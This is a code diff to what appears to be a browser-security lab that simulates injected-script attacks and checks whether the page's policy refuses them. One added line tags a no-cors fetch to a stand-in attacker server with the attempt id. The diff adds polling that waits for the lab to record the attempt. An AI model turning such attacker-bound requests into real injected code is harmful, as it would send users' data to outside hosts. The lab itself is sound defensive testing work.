@@ -5,7 +5,7 @@ import { cookieNames, csrfHeader, paths } from '@tokenless/bff/contract';
 import { bffOrigin } from '../../http/bff-origin.ts';
 import { http } from '../../http/http.ts';
 import { readableByScript } from '../../session/readable-by-script.ts';
-import type { Attempt, ReportRequest } from './contract.ts';
+import { paths as labPaths, type Attempt, type ReportRequest } from './contract.ts';
 
 /** By the attack's id. */
 export const pageAttacks: Readonly<Record<string, (attempt: Attempt) => Promise<ReportRequest>>> = {
@@ -26,7 +26,7 @@ async function readStorage(): Promise<ReportRequest> {
 const byScript = (says: string) => ({ by: 'script', says });
 
 /** Each of these would run, or load, were it not for the page's policy. */
-async function injectScript({ attacker = '' }: Attempt): Promise<ReportRequest> {
+async function injectScript({ id, attacker = '' }: Attempt): Promise<ReportRequest> {
   const ran: string[] = [];
   const run = (event: Event) => ran.push((event as CustomEvent<string>).detail);
   document.addEventListener('lab-ran', run);
@@ -51,7 +51,7 @@ async function injectScript({ attacker = '' }: Attempt): Promise<ReportRequest> 
       link.remove();
     },
     'something sent away to the attacker’s server': async (way: string) => {
-      await fetch(`${attacker}/attacker/empty`, { mode: 'no-cors' });
+      await fetch(`${attacker}/attacker/empty?attempt=${id}`, { mode: 'no-cors' });
       ran.push(way);
     },
   };
@@ -64,6 +64,7 @@ async function injectScript({ attacker = '' }: Attempt): Promise<ReportRequest> 
   );
   await linksFollowed();
   document.removeEventListener('lab-ran', run);
+  if (ran.length === 0) await reportArrived(id);
   const remarks = Object.keys(ways).map((way) =>
     byScript(`tries ${way}: ${ran.includes(way) ? 'it works' : 'refused'}`),
   );
@@ -73,6 +74,15 @@ async function injectScript({ attacker = '' }: Attempt): Promise<ReportRequest> 
 /** A link of code runs when the browser comes to it, not at once. */
 function linksFollowed(): Promise<void> {
   return new Promise((resolve) => setTimeout(resolve, 100));
+}
+
+/** The browser sends it by itself; over https some keep it back for a while, which nobody waits for. */
+async function reportArrived(id: string): Promise<void> {
+  for (let asked = 0; asked < 10; asked += 1) {
+    const { data } = await http.get<Attempt>(labPaths.attempt(id));
+    if (data.steps.length > 0) return;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
 }
 
 const headers = { [csrfHeader.name]: csrfHeader.value };
